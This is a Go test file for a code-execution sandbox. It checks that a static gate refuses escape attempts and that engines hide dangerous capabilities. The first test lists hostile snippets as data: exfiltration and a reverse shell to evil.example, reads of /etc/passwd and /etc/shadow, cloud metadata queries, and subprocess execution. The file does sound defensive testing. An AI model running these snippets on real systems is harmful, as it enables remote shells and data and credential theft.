package tests

import (
	"context"
	"os"
	"strings"
	"testing"

	"playground-sandbox/internal/sandbox"
)

// TestEscapeAttemptsRefusedAtTheGate covers code that must never reach an
// engine. Each snippet is an actual escape or exfiltration technique; all
// of them must be refused by the static gate before execution.
func TestEscapeAttemptsRefusedAtTheGate(t *testing.T) {
	executor, mon := buildStack(t, nil)
	ctx := context.Background()

	attempts := []struct {
		name     string
		language string
		code     string
	}{
		{"js process access", "javascript", `process.mainModule.require("child_process").execSync("id")`},
		{"js require", "javascript", `const fs = require("fs"); fs.readFileSync("/etc/passwd")`},
		{"js eval", "javascript", `eval("this.constructor.constructor('return process')()")`},
		{"js dynamic function", "javascript", `new Function("return globalThis")()`},
		{"js exfiltration", "javascript", `fetch("http://evil.example/collect", {method: "POST"})`},
		{"js metadata service", "javascript", `fetch("http://169.254.169.254/latest/meta-data/")`},
		{"py subprocess", "python", `import subprocess; subprocess.run(["id"])`},
		{"py os system", "python", `import os; os.system("cat /etc/passwd")`},
		{"py dynamic import", "python", `__import__("socket").create_connection(("evil.example", 443))`},
		{"py ctypes", "python", `import ctypes; ctypes.CDLL(None)`},
		{"lua os execute", "lua", `os.execute("touch /tmp/pwned")`},
		{"lua io popen", "lua", `local h = io.popen("id"); print(h:read("*a"))`},
		{"lua loadstring", "lua", `loadstring("return os")()`},
		{"sql attach", "sql", `ATTACH DATABASE '/tmp/side.db' AS side;`},
		{"sql extension", "sql", `SELECT load_extension('/tmp/evil.so');`},
		{"sensitive path", "javascript", `console.log("/etc/shadow")`},
		{"reverse shell", "python", `code = "bash -i >& /dev/tcp/evil.example/4444 0>&1"`},
	}

	for _, tt := range attempts {
		t.Run(tt.name, func(t *testing.T) {
			res := executor.Execute(ctx, sandbox.ExecutionRequest{
				Code:     tt.code,
				Language: tt.language,
			})
			if res.Success {
				t.Fatalf("escape attempt succeeded: %q", tt.code)
			}
			if !strings.Contains(res.Error, "malicious code detected") {
				t.Fatalf("error = %q, want detector refusal", res.Error)
			}
			if _, ok := res.Metadata["maliciousCodeDetection"]; !ok {
				t.Fatal("refusal missing detection metadata")
			}
		})
	}

	// Nothing refused at the gate may occupy an execution slot.
	if got := len(mon.History()); got != 0 {
		t.Fatalf("refused code left %d history entries", got)
	}
}

// TestContainedEscapesLeaveNoTrace covers attempts that pass the static
// gate but must be neutralized by the engine sandboxes themselves.
func TestContainedEscapesLeaveNoTrace(t *testing.T) {
	executor, _ := buildStack(t, nil)
	ctx := context.Background()

	tests := []struct {
		name     string
		language string
		code     string
	}{
		{"js missing fetch", "javascript", `console.log(typeof this.fetch)`},
		{"lua missing os table", "lua", `print(os)`},
		{"lua missing package", "lua", `print(package)`},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := executor.Execute(ctx, sandbox.ExecutionRequest{
				Code:     tt.code,
				Language: tt.language,
			})
			if !res.Success {
				t.Fatalf("probe failed: %q", res.Error)
			}
			out := strings.TrimSpace(res.Output)
			if out != "undefined" && out != "nil" {
				t.Fatalf("capability reachable: output = %q", out)
			}
		})
	}
}

// TestSQLRunsCannotTouchTheFilesystem verifies SQL executions stay in
// memory: a marker path used in a statement must not appear on disk.
func TestSQLRunsCannotTouchTheFilesystem(t *testing.T) {
	executor, _ := buildStack(t, nil)

	marker := "/tmp/sandbox-escape-marker.db"
	os.Remove(marker)

	res := executor.Execute(context.Background(), sandbox.ExecutionRequest{
		Code:     `CREATE TABLE t (p TEXT); INSERT INTO t VALUES ('` + marker + `'); SELECT p FROM t;`,
		Language: "sql",
	})
	if !res.Success {
		t.Fatalf("execution failed: %q", res.Error)
	}
	if _, err := os.Stat(marker); !os.IsNotExist(err) {
		t.Fatalf("marker file exists on disk: %v", err)
	}
}
